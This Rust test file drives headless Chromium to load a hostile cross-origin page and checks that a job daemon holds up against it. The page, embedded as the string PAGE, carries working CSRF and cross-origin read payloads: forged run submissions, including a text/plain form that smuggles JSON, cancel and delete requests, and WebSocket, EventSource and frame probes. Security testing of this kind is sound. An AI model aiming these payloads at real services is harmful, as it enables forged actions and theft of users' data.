//! A web page of another origin, in a real browser that holds a valid session's cookie for the daemon's host: cookies know
//! no ports, so that the cookie is sent. The page makes nothing, changes nothing, opens no stream and reads nothing.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Sender, channel};

use rustix::process::{Pid, Signal, kill_process_group};
use serde_json::{Value, json};

use crate::common::{Address, DEADLINE, Daemon};

/// What a Chromium may be called.
const BROWSERS: &[&str] = &["chromium-headless-shell", "chromium", "chromium-browser", "google-chrome"];

/// The Chromium of this machine.
pub fn browser() -> Option<&'static str> {
    let is_there =
        |name: &&str| Command::new(name).arg("--version").output().is_ok_and(|output| output.status.success());
    BROWSERS.iter().copied().find(is_there)
}

/// The attacks; each reports one text under its name.
const PAGE: &str = r#"<!doctype html><title>evil</title><body><script>
const target = 'http://TARGET', stream = 'ws://TARGET/v1/runs/1/events';
const submit = '{"command":["true"]}', report = {};
const late = () => new Promise(done => setTimeout(done, 8000, 'nothing happened'));
const attempt = (name, attack) =>
  Promise.race([late(), new Promise(attack)]).catch(error => 'failed: ' + error).then(said => report[name] = String(said));
const read = async response => `${response.type} ${response.status} ${await response.text()}`;
const request = (path, options) => (done, failed) =>
  fetch(target + path, {credentials: 'include', ...options}).then(read).then(done, failed);
const text = {'Content-Type': 'text/plain'}, typed = {'Content-Type': 'application/json'};
const element = (tag, attributes) => (done, failed) => {
  const made = Object.assign(document.createElement(tag), attributes);
  made.onload = () => done('loaded ' + (made.width || ''));
  made.onerror = () => failed('not loaded');
  document.body.append(made);
};
const form = (path, enctype, fields) => done => {
  const frame = document.createElement('iframe'), sent = document.createElement('form');
  frame.name = 'frame' + path + enctype;
  Object.assign(sent, {method: 'POST', action: target + path, enctype, target: frame.name});
  for (const [name, value] of fields) sent.append(Object.assign(document.createElement('input'), {name, value}));
  document.body.append(frame, sent);
  frame.onload = () => { let seen; try { seen = frame.contentDocument?.body.innerText } catch { } done('sent ' + (seen || '')); };
  sent.submit();
};
const frame = (done, failed) => {
  const made = Object.assign(document.createElement('iframe'), {src: target + '/v1/runs'});
  made.onload = () => { try { done('loaded ' + made.contentWindow.document.body.innerText) } catch (error) { failed(error) } };
  document.body.append(made);
};
const sandboxed = done => {
  onmessage = said => done(said.data);
  const script = `fetch('${target}/v1/runs/1/cancel', {method: 'POST', mode: 'no-cors', credentials: 'include'})
    .then(response => parent.postMessage('sent ' + response.status, '*'), error => parent.postMessage('failed: ' + error, '*'))`;
  const made = document.createElement('iframe');
  made.sandbox = 'allow-scripts';
  made.srcdoc = '<script>' + script + '<' + '/script>';
  document.body.append(made);
};
const socket = (done, failed) => {
  const made = new WebSocket(stream);
  made.onopen = () => done('opened');
  made.onmessage = said => done('told ' + said.data);
  made.onerror = () => failed('refused');
};
const source = (done, failed) => {
  const made = new EventSource(target + '/v1/runs/1/events', {withCredentials: true});
  made.onopen = () => done('opened');
  made.onerror = () => { made.close(); failed('refused'); };
};
const asked = (done, failed) => {
  const made = new XMLHttpRequest();
  made.open('GET', target + '/v1/runs/1');
  made.withCredentials = true;
  made.onload = () => done('read ' + made.responseText);
  made.onerror = () => failed('refused');
  made.send();
};
Promise.all([
  attempt('fetch of text', request('/v1/runs', {method: 'POST', headers: text, body: submit})),
  attempt('fetch without CORS', request('/v1/runs', {method: 'POST', mode: 'no-cors', headers: text, body: submit})),
  attempt('fetch of JSON', request('/v1/runs', {method: 'POST', headers: typed, body: submit})),
  attempt('fetch of a cancel', request('/v1/runs/1/cancel', {method: 'POST', mode: 'no-cors'})),
  attempt('fetch of a deletion', request('/v1/session', {method: 'DELETE'})),
  attempt('fetch to read', request('/v1/runs', {})),
  attempt('fetch to read without CORS', request('/v1/runs', {mode: 'no-cors'})),
  attempt('request to read', asked),
  attempt('form of text', form('/v1/runs', 'text/plain', [['{"command":["true"],"name":"', '"}']])),
  attempt('form', form('/v1/runs/1/cancel', 'application/x-www-form-urlencoded', [])),
  attempt('form of parts', form('/v1/runs/1/retry', 'multipart/form-data', [['a', 'b']])),
  attempt('beacon', done => done('sent ' + navigator.sendBeacon(target + '/v1/runs/1/cancel'))),
  attempt('page of no origin', sandboxed),
  attempt('image', element('img', {src: target + '/v1/runs'})),
  attempt('script', element('script', {src: target + '/v1/runs'})),
  attempt('style', element('link', {rel: 'stylesheet', href: target + '/v1/runs'})),
  attempt('frame', frame),
  attempt('WebSocket', socket),
  attempt('EventSource', source),
]).then(() => fetch('/report', {method: 'POST', body: JSON.stringify(report)}));
</script>"#;

/// A browser that is ended with all of its processes.
struct Browser(Child);

impl Browser {
    fn start(name: &str, profile: &Path, url: &str) -> Browser {
        let mut command = Command::new(name);
        command.args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-default-apps",
            "--disable-sync",
            "--no-first-run",
            "--no-default-browser-check",
            "--remote-debugging-port=0",
        ]);
        command.arg(format!("--user-data-dir={}", profile.display())).arg(url);
        // It writes to its home otherwise.
        command.env("HOME", profile).env("XDG_CONFIG_HOME", profile).env("XDG_CACHE_HOME", profile);
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).process_group(0);
        Browser(command.spawn().unwrap())
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        if let Some(group) = Pid::from_raw(self.0.id() as i32) {
            let _ = kill_process_group(group, Signal::KILL);
        }
        let _ = self.0.wait();
    }
}

/// Serves the page with the cookie, and sends on what it reports.
fn serve(mut stream: TcpStream, page: &str, cookie: &str, report: &Sender<Value>) -> std::io::Result<()> {
    stream.set_read_timeout(Some(DEADLINE))?;
    let mut reading = BufReader::new(stream.try_clone()?);
    let (mut first, mut length) = (String::new(), 0);
    reading.read_line(&mut first)?;
    loop {
        let mut line = String::new();
        if reading.read_line(&mut line)? <= 2 {
            break;
        }
        if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = value.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0; length];
    reading.read_exact(&mut body)?;
    if first.starts_with("POST /report ") {
        let _ = report.send(serde_json::from_slice(&body).unwrap_or(Value::Null));
    }
    let page = if first.starts_with("GET / ") { page } else { "" };
    let head = format!(
        "Content-Type: text/html\r\nContent-Length: {}\r\nSet-Cookie: {cookie}\r\nConnection: close",
        page.len()
    );
    write!(stream, "HTTP/1.1 200 OK\r\n{head}\r\n\r\n{page}")
}

#[test]
fn a_page_of_another_origin_with_a_valid_cookie_does_and_reads_nothing() {
    let Some(browser) = browser() else {
        println!("skipped: no Chromium is installed (Debian: apt-get install chromium-headless-shell)");
        return;
    };
    let daemon = Daemon::start();
    assert_eq!(daemon.submit(&json!({"script": "echo secret", "name": "secret", "delay_s": 3_600})), 1);
    let token = daemon.post("/v1/enrollment-tokens", &json!({"role": "admin"})).expect(201).json()["token"].clone();
    let enrolled = daemon.tcp().post("/v1/enroll", &json!({"token": token, "cookie": true})).expect(201);
    // The other server sets what the daemon would have set: the browser keeps one jar for the host.
    let cookie = enrolled.header("set-cookie").unwrap().to_owned();
    let Address::Tcp(target) = daemon.tcp().address().clone() else { unreachable!() };
    let page = PAGE.replace("TARGET", &target.to_string());
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/", listener.local_addr().unwrap());
    let (sender, reported) = channel();
    // Ends with the test's process; nobody connects to it any more when the browser is gone.
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let (page, cookie, sender) = (page.clone(), cookie.clone(), sender.clone());
            std::thread::spawn(move || serve(stream, &page, &cookie, &sender));
        }
    });
    let before = daemon.metrics();
    let running = Browser::start(browser, &daemon.dir().join("browser"), &url);
    let report = reported.recv_timeout(3 * DEADLINE);
    drop(running);
    let report = report.unwrap_or_else(|error| panic!("the page did not report: {error}"));
    println!("{browser}: {report:#}");

    let metrics = daemon.metrics();
    let answered = |route: &str, status: u16| {
        let name = format!("http_requests_total{{route=\"{route}\",status=\"{status}\"}}");
        metrics.0.get(&name).copied().unwrap_or(0.0) - before.0.get(&name).copied().unwrap_or(0.0)
    };
    // With the cookie the requests that only read are answered, to a browser that shows the page nothing of it.
    assert!(answered("/v1/runs", 200) >= 3.0, "the cookie was not sent: {metrics:?}");
    assert!(answered("none", 403) >= 8.0, "the attacks did not arrive: {metrics:?}");
    for (name, said) in report.as_object().expect("a report") {
        let said = said.as_str().unwrap();
        let is_harmless = match name.as_str() {
            "fetch without CORS" | "fetch of a cancel" | "fetch to read without CORS" => said == "opaque 0 ",
            "form of text" | "form" | "form of parts" => said == "sent ",
            "beacon" => said == "sent true",
            "page of no origin" => said == "sent 0",
            _ => said.starts_with("failed: "),
        };
        assert!(is_harmless, "{name}: {said}");
        assert!(!said.contains("secret"), "{name} reads: {said}");
    }
    assert_eq!(report.as_object().unwrap().len(), 19);
    let runs = daemon.get("/v1/runs").expect(200).json();
    assert_eq!(runs["runs"].as_array().unwrap().len(), 1, "a page made a run: {runs}");
    assert_eq!(runs["runs"][0]["status"], "queued", "a page canceled a run: {runs}");
    assert_eq!(daemon.get("/v1/sessions").expect(200).json()["sessions"].as_array().unwrap().len(), 1);
    assert_eq!(daemon.kinds(1), ["queued"]);
    assert!(metrics.0.keys().all(|name| !name.contains("status=\"101\"")), "a stream was opened: {metrics:?}");
}
